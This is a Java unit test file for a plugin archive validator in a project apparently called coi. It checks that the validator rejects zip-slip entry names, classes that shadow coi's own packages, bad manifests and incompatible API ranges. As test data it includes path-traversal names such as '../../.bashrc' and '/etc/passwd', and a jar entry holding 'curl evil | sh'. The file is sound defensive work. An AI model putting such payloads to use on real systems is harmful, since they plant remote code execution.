package dev.coi.kernel.plugin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.coi.api.CoiApi;
import dev.coi.kernel.base.CoiException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PluginArchiveTest {

    @TempDir
    Path dir;

    @Test
    void readsTheManifestOfAGoodJar() throws Exception {
        Path jar = TestPluginJar.plugin("hello-check").attribute(PluginManifest.VERSION, "2.1.0").build(dir, "a.jar");

        assertEquals(new PluginManifest("hello-check", "2.1.0", TestPluginJar.REQUIRES),
                PluginArchive.inspect(jar, "a.jar"));
    }

    @Test
    void entryNamesThatLeaveTheirFolderAreZipSlip() {
        for (String bad : new String[] {"../evil.sh", "a/../../evil.sh", "/etc/passwd", "C:/x", "a\\..\\b", ".."}) {
            assertTrue(PluginArchive.escapes(bad), bad);
        }
        for (String good : new String[] {"a/b.class", "META-INF/MANIFEST.MF", "a..b/c", "x/.hidden"}) {
            assertFalse(PluginArchive.escapes(good), good);
        }
    }

    @Test
    void aJarWithATraversingEntryIsRejected() throws Exception {
        Path jar = TestPluginJar.plugin("evil").entry("../../.bashrc", "curl evil | sh").build(dir, "evil.jar");

        CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(jar, "evil.jar"));

        assertTrue(refused.getMessage().contains("leaves its folder") && refused.getMessage().contains("../../.bashrc"),
                refused.getMessage());
    }

    @Test
    void classesInCoisOwnPackagesAreRejected() throws Exception {
        for (String name : new String[] {"dev/coi/api/CoiPlugin.class", "dev/coi/kernel/Kernel.class",
                "dev/coi/plugin/claude/ClaudeTool.class", "META-INF/versions/17/dev/coi/api/AiTool.class"}) {
            Path jar = TestPluginJar.plugin("shadow").entry(name, "not really a class").build(dir, "s" + name.length() + ".jar");

            CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(jar, "shadow.jar"));

            assertTrue(refused.getMessage().contains("coi's own package"), refused.getMessage());
        }
    }

    @Test
    void resourcesUnderDevCoiAreNoClasses() throws Exception {
        Path jar = TestPluginJar.plugin("resources").entry("dev/coi/notes.txt", "fine").build(dir, "r.jar");

        assertEquals("resources", PluginArchive.inspect(jar, "r.jar").id());
    }

    @Test
    void theServicesFileMustNameAClassOfTheJar() throws Exception {
        Path jar = TestPluginJar.plugin("lost").build(dir, "lost.jar");
        Path withoutServices = dir.resolve("no-services.jar");

        try (var in = new java.util.jar.JarInputStream(Files.newInputStream(jar));
             var out = new java.util.jar.JarOutputStream(Files.newOutputStream(withoutServices), in.getManifest())) {
            for (var entry = in.getNextJarEntry(); entry != null; entry = in.getNextJarEntry()) {
                if (!entry.getName().equals(PluginArchive.SERVICES_FILE)) {
                    out.putNextEntry(new java.util.jar.JarEntry(entry.getName()));
                    in.transferTo(out);
                }
            }
            out.putNextEntry(new java.util.jar.JarEntry(PluginArchive.SERVICES_FILE));
            out.write("example.Missing\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }

        CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(withoutServices, "n.jar"));
        assertTrue(refused.getMessage().contains("names example.Missing, which is not in the jar"), refused.getMessage());
    }

    @Test
    void somethingThatIsNoJarIsRejected() throws Exception {
        Path garbage = Files.writeString(dir.resolve("garbage.jar"), "this is not a jar");

        CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(garbage, "garbage.jar"));

        assertTrue(refused.getMessage().contains("cannot be read as a jar"), refused.getMessage());
    }

    @Test
    void theManifestNeedsIdVersionAndApiRange() throws Exception {
        for (String missing : new String[] {PluginManifest.ID, PluginManifest.VERSION, PluginManifest.REQUIRES}) {
            Path jar = TestPluginJar.plugin("partial").attribute(missing, null).build(dir, missing + ".jar");

            CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(jar, "p.jar"));

            assertTrue(refused.getMessage().contains("has no " + missing), refused.getMessage());
        }
    }

    @Test
    void idsAreLowerCaseWithDashes() throws Exception {
        for (String bad : new String[] {"Hello", "hello_check", "-hello", "hello--check", "../x"}) {
            Path jar = TestPluginJar.plugin("x").attribute(PluginManifest.ID, bad).build(dir, "id" + bad.hashCode() + ".jar");

            CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(jar, "i.jar"));

            assertTrue(refused.getMessage().contains("must be lower case"), refused.getMessage());
        }
    }

    @Test
    void aPluginForAnotherApiIsRejectedWithBothVersions() throws Exception {
        Path jar = TestPluginJar.plugin("future").attribute(PluginManifest.REQUIRES, ">=9.0.0 & <10.0.0").build(dir, "f.jar");

        CoiException refused = assertThrows(CoiException.class, () -> PluginArchive.inspect(jar, "f.jar"));

        assertTrue(refused.getMessage().contains("needs coi-api >=9.0.0 & <10.0.0, this coi provides " + CoiApi.VERSION),
                refused.getMessage());
    }
}
